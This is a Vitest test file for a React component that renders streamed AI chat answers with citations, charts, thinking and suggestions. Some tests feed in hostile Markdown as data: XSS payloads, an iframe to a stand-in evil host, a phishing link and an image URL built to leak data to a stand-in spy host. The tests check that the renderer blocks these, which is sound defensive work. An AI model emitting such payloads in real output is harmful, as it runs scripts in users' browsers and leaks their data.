import { QueryClient, QueryClientProvider } from "@tanstack/react-query";
import { act, type ReactNode } from "react";
import { createRoot, type Root } from "react-dom/client";
import { MemoryRouter } from "react-router";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import type { Block } from "../stream/blocks.ts";
import type { OpenBlock } from "../stream/fold.ts";
import { Answer, type AnswerActions } from "./answer.tsx";

const drawn: string[] = [];

vi.mock("../charts/chart-view.tsx", () => ({
  ChartView: ({ chart }: { chart: { title: string } }) => {
    drawn.push(chart.title);
    return <figure aria-label={chart.title} />;
  },
}));

const parsed: string[] = [];

vi.mock("react-markdown", async (load) => {
  const real = await load<typeof import("react-markdown")>();
  return {
    default: (props: Parameters<typeof real.default>[0]) => {
      parsed.push(props.children ?? "");
      return real.default(props);
    },
  };
});

let place: HTMLElement;
let root: Root;

const client = new QueryClient({ defaultOptions: { queries: { retry: false } } });

function show(element: ReactNode) {
  return act(async () => {
    root.render(
      <QueryClientProvider client={client}>
        <MemoryRouter>{element}</MemoryRouter>
      </QueryClientProvider>,
    );
  });
}

function click(name: string) {
  const button = [...place.ownerDocument.querySelectorAll<HTMLElement>("button, a")].find((candidate) =>
    (candidate.getAttribute("aria-label") ?? candidate.textContent ?? "").includes(name),
  );
  if (!button) throw new Error(`nothing to click is called ${name}`);
  return act(async () => button.click());
}

const actions: AnswerActions = { send: vi.fn(), retry: vi.fn() };

function answer(blocks: Block[], open: OpenBlock | null = null) {
  return show(<Answer blocks={blocks} open={open} actions={actions} />);
}

function openText(text: string): OpenBlock {
  return { turnId: "t1", blockId: "b9", index: 1, type: "text", text };
}

const text: Block = { id: "b1", type: "text", markdown: "Skye is **wetter**.[^1]" };
const reference: Block = {
  id: "b2",
  type: "reference",
  index: 1,
  sourceId: "s1",
  title: "rain.csv",
  locator: { page: 3, quote: "It rained." },
};
const chart: Block = {
  id: "b3",
  type: "chart",
  chartId: "c1",
  version: 1,
  kind: "plot",
  title: "Skye leads",
  description: "",
  spec: {},
  data: null,
  query: null,
  encodingNotes: [],
};

describe("an answer", () => {
  beforeEach(() => {
    vi.stubGlobal("IS_REACT_ACT_ENVIRONMENT", true);
    place = document.createElement("div");
    document.body.append(place);
    root = createRoot(place);
    drawn.length = 0;
    parsed.length = 0;
  });

  afterEach(async () => {
    await act(async () => root.unmount());
    place.remove();
    vi.unstubAllGlobals();
    vi.clearAllMocks();
  });

  it("renders a finished block once while later text streams in", async () => {
    await answer([text, chart], openText(""));
    const before = parsed.length;
    for (let length = 1; length <= 40; length += 1) await answer([text, chart], openText("x".repeat(length)));
    expect(drawn).toEqual(["Skye leads"]);
    expect(parsed.slice(before).some((piece) => piece.includes("Skye"))).toBe(false);
  });

  it("keeps the DOM elements when a block closes", async () => {
    await answer([], openText("One.\n\nTwo"));
    const paragraph = place.querySelector("p");
    await answer([{ id: "b9", type: "text", markdown: "One.\n\nTwo." }, chart]);
    expect(place.querySelector("p")).toBe(paragraph);
    expect(place.textContent).toContain("Two.");
  });

  it("opens the passage that a citation refers to", async () => {
    await answer([text, reference]);
    await click("Reference 1: rain.csv");
    const dialog = document.querySelector('[role="dialog"]');
    expect(dialog?.textContent).toContain("It rained.");
    expect(dialog?.textContent).toContain("page 3");
  });

  it("shows a citation as a number until its reference arrives", async () => {
    await answer([text]);
    expect(place.querySelector("sup")?.textContent).toBe("1");
    expect(place.querySelector("sup button")).toBeNull();
  });

  it("shows the URL of an image instead of loading it", async () => {
    await answer([{ id: "b1", type: "text", markdown: "![Secret](https://spy.example.net/?q=salary)" }]);
    expect(place.querySelector("img")).toBeNull();
    const link = place.querySelector("a");
    expect(link?.textContent).toBe("Image: Secret (spy.example.net)");
    expect(link?.rel).toContain("noreferrer");
  });

  it.each([
    "[click](javascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](/api/user/export)",
    "<a href='https://evil.example'>click</a>",
    "<img src=x onerror=alert(1)>",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<script>alert(1)</script>",
    "<iframe src='https://evil.example'></iframe>",
  ])("makes nothing of hostile Markdown: %s", async (markdown) => {
    await answer([{ id: "b1", type: "text", markdown }]);
    expect(place.querySelector("a, img, script, iframe")).toBeNull();
  });

  it("shows a link's target and opens it without access to this window", async () => {
    await answer([{ id: "b1", type: "text", markdown: "See [our bank](https://phish.example/login)." }]);
    const link = place.querySelector("a");
    expect(link?.textContent).toBe("our bank (phish.example)");
    expect(link?.rel).toContain("noopener");
    expect(link?.target).toBe("_blank");
  });

  it("collapses thinking with its duration and expands it on click", async () => {
    const thinking: Block = { id: "b1", type: "thinking", markdown: "First, the columns.", durationMs: 64_000 };
    await answer([thinking]);
    expect(place.textContent).toBe("Thought for 1 minute 4 seconds");
    await click("Thought for");
    expect(place.textContent).toContain("First, the columns.");
  });

  it("shows the latest thinking while it streams", async () => {
    await answer([], { turnId: "t1", blockId: "b1", index: 0, type: "thinking", text: "Is rain a number? It is." });
    expect(place.textContent).toBe("Thinking…Is rain a number? It is.");
  });

  it("shows a chart skeleton before the chart arrives", async () => {
    await answer([], { turnId: "t1", blockId: "b3", index: 0, type: "chart", text: "" });
    expect(place.textContent).toContain("Drawing a chart");
    await answer([chart]);
    expect(drawn).toEqual(["Skye leads"]);
  });

  it("sends the prompt of a suggestion", async () => {
    await answer([{ id: "b1", type: "suggestion", label: "By year", prompt: "Show rain by year" }]);
    await click("By year");
    expect(actions.send).toHaveBeenCalledWith("Show rain by year");
  });

  it("retries after a transient error", async () => {
    await answer([{ id: "b1", type: "error", code: "upstream", message: "The model was away.", retryable: true }]);
    await click("Try again");
    expect(actions.retry).toHaveBeenCalledOnce();
  });

  it("links to the cited time in a video", async () => {
    const url = "https://video.example.org/w?t=65";
    await answer([{ id: "b1", type: "timestamp", sourceId: "s1", url, startMs: 65_000, label: "The storm" }]);
    expect(place.querySelector("a")?.getAttribute("href")).toBe(url);
    expect(place.textContent).toContain("1:05");
  });
});
